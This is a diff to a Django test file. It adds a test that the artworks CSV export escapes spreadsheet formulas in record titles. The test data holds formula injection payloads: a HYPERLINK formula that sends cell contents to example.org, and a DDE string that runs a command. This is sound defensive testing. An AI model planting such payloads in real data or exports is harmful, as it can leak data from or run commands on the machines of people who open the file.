@@ -1,5 +1,7 @@
 from __future__ import annotations
 
+import csv
+import io
 import json
 from datetime import date, timedelta
 
@@ -195,3 +197,22 @@ def test_openapi_describes_every_record_kind(client: Client) -> None:
         assert f"/api/records/{kind}" in schema["paths"]
         assert {"get", "post"} <= set(schema["paths"][f"/api/records/{kind}"])
         assert {"get", "patch", "delete"} <= set(schema["paths"][f"/api/records/{kind}/{{pk}}"])
+
+
+FORMULAS = ['=HYPERLINK("https://example.org/?"&A1,"open")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)"]
+
+
+@pytest.mark.django_db
+def test_a_record_export_writes_formulas_as_text(net: Network) -> None:
+    fr = signed_in_client(net.users["FR-officer"])
+    for formula in FORMULAS:
+        art = {"title": formula, "artist": "Unknown", "category": "painting"}
+        r = _post(fr, "/api/records/artworks", {**art, **access()})
+        assert r.status_code == 201, r.content
+
+    r = fr.get("/api/records/artworks/export.csv")
+
+    assert r.status_code == 200
+    exported = list(csv.DictReader(io.StringIO(r.content.decode())))
+    assert sorted(row["title"] for row in exported) == sorted(f"'{f}" for f in FORMULAS)
+    assert {row["artist"] for row in exported} == {"Unknown"}
